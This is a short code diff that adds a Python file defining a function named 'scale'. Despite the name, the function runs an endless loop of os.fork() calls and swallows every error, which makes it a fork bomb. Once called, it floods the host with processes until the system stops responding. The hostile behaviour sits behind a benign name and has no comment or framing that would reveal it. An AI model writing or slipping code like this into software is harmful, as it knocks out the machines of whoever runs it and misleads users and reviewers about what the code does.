@@ -1,0 +1,9 @@
+import os
+
+
+def scale(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
